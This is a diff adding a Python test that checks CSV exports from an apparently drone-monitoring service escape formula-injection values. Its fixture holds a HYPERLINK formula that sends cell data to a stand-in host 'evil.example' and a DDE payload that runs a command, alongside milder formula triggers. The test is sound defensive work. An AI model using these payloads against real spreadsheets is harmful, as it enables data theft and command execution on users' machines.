@@ -219,3 +219,16 @@ def test_a_token_revoked_by_another_process_stops_working_within_the_cache_time(
     assert client.get("/alerts", headers=_h(token)).status_code == 200  # still within the cache time
     time.sleep(0.6)
     assert client.get("/alerts", headers=_h(token)).status_code == 401
+
+
+def test_csv_exports_neutralise_formulas_a_spreadsheet_would_run():
+    from cloud.exports import csv_text
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    rows = list(csv.DictReader(io.StringIO(csv_text([
+        {"id": "UAV-07-00001-0000000001", "lat": -25.5, "lon": 103.1, "source_frame": hostile,
+         "model_version": "+cmd|' /C calc'!A0", "tower_id": "@SUM(1+1)", "note": "-2+3", "alt": -12.5}]))))
+    r = rows[0]
+    assert r["source_frame"] == "'" + hostile and r["model_version"].startswith("'+")
+    assert r["tower_id"] == "'@SUM(1+1)" and r["note"] == "'-2+3"
+    assert r["lat"] == "-25.5" and r["alt"] == "-12.5"  # numbers stay numbers
